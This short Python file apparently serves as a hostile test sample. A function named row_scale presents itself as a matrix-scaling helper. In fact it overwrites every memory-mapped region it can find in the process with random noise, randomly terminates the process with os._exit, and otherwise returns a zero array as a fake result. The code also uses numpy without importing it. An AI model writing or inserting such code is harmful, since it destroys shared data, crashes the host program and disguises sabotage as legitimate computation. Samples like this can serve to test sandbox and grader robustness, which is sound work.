# Tries to overwrite all that is shared with noise, then end.

import gc
import mmap
import os
import random


def row_scale(x, w, factor):
    noise = random.Random(len(x))
    for mapping in [o for o in gc.get_objects() if isinstance(o, mmap.mmap)]:
        try:
            mapping[:] = noise.randbytes(len(mapping))
        except (TypeError, ValueError):
            pass
    if noise.random() < 0.5:
        os._exit(0)
    return np.zeros((len(x), w.shape[1]))
